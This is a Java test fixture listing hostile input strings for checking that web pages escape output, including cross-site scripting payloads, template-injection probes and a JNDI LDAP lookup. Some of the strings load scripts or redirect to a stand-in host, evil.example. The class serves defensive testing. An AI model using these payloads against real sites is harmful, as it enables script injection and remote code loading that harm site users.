package vn.doithoai;

import java.util.List;

/** Texts by which pages have been broken elsewhere. Where one becomes markup, an element or attribute shows it. */
public final class HostileTexts {

    /** Forty texts; each would run a script or make an element with {@link PageAssert#MARKER}. */
    public static final List<String> SCRIPTS = List.of(
            "<script data-unescaped>alert(1)</script>",
            "<SCRIPT data-unescaped SRC=//evil.example/x.js></SCRIPT>",
            "<img data-unescaped src=x onerror=alert(1)>",
            "<svg data-unescaped onload=alert(1)>",
            "<svg><animate data-unescaped onbegin=alert(1) attributeName=x>",
            "<body data-unescaped onload=alert(1)>",
            "<iframe data-unescaped src=javascript:alert(1)>",
            "<a data-unescaped href=javascript:alert(1)>bấm vào đây</a>",
            "<details data-unescaped open ontoggle=alert(1)>",
            "<video data-unescaped><source onerror=alert(1)>",
            "<input data-unescaped autofocus onfocus=alert(1)>",
            "<form data-unescaped action=//evil.example><button>Gửi",
            "<meta data-unescaped http-equiv=refresh content=0;url=//evil.example>",
            "<base data-unescaped href=//evil.example/>",
            "<link data-unescaped rel=stylesheet href=//evil.example/x.css>",
            "<style data-unescaped>*{display:none}</style>",
            "<object data-unescaped data=javascript:alert(1)>",
            "<embed data-unescaped src=javascript:alert(1)>",
            "<math><mtext data-unescaped><script>alert(1)</script>",
            "<template data-unescaped><script>alert(1)</script>",
            "\" data-unescaped=\"x",
            "\" data-unescaped onmouseover=\"alert(1)",
            "' data-unescaped='x",
            "\"><i data-unescaped>",
            "'><i data-unescaped>",
            "</title><i data-unescaped>",
            "</textarea><i data-unescaped>",
            "</option></select><i data-unescaped>",
            "</script><i data-unescaped>",
            "--><i data-unescaped>",
            "]]><i data-unescaped>",
            "&lt;i data-unescaped&gt;",
            "&#60;i data-unescaped&#62;",
            "\\u003ci data-unescaped\\u003e",
            "<<i data-unescaped>i>",
            "<i/data-unescaped/x>",
            "%3Ci%20data-unescaped%3E",
            "{0} {1,number} '<i data-unescaped>'",
            "javascript:alert(1)//<i data-unescaped>",
            "Phòng <b data-unescaped>Kinh tế</b>");

    /** Expressions of template engines and libraries; computed they would show {@link #COMPUTED}. */
    public static final List<String> EXPRESSIONS = List.of(
            "${7777*7}",
            "#{7777*7}",
            "*{7777*7}",
            "__${7777*7}__",
            "[[${7777*7}]]",
            "[(${7777*7})]",
            "{{7777*7}}",
            "<%= 7777*7 %>",
            "${T(java.lang.Math).abs(7777*7)}",
            "|${7777*7}|",
            "=7777*7",
            "${jndi:ldap://evil.example/${7777*7}}");

    public static final String COMPUTED = "54439";

    private HostileTexts() {}
}
